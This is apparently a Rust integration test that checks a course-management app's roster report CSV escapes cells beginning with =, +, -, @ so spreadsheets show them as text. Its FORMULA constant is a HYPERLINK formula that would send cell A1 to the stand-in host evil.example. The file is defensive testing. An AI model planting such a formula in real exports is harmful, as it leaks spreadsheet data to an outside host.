//! Every CSV Sala hands out is safe to open in a spreadsheet: a name typed as a formula is
//! shown as text, never run (OWASP's CSV injection advice).

use reqwest::StatusCode;

use crate::cohorts::{coordinator_with_office, create_cohort, send_roster};
use crate::final_assessment::fixtures;
use crate::helpers::Backend;
use crate::{both_backends, spawn};

both_backends!(a_name_written_as_a_formula_is_text_in_the_report_csv,);

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";

async fn a_name_written_as_a_formula_is_text_in_the_report_csv(backend: Backend) {
    let app = spawn!(backend, |s| s.courses_dir = fixtures());
    let office = coordinator_with_office(&app).await;
    let cohort = create_cohort(&app, &office, 30).await;
    let quoted = FORMULA.replace('"', "\"\"");
    let roster = format!(
        "name_km,name_latin,email,office,province\n\
         +សុខ,\"{quoted}\",-sok@example.org,pdrd-kratie,10\n\
         ពៅ,@Pov,pov@example.org,pdrd-kratie,10\n"
    );
    let response = send_roster(&app, &cohort, &roster, true).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);

    let id = cohort.rsplit('/').next().unwrap();
    let response = app
        .get(&format!("/coordinate/test-ministry/report.csv?cohort={id}"))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = response.bytes().await.unwrap();
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{text}");
    // Every cell a spreadsheet would run starts with an apostrophe instead.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {text}"
            );
        }
    }
    let sok = rows
        .iter()
        .find(|r| &r[0] == "'+សុខ")
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(&sok[1], format!("'{FORMULA}"));
    assert_eq!(&sok[2], "'-sok@example.org");
    assert!(rows.iter().any(|r| &r[1] == "'@Pov"), "{text}");
}
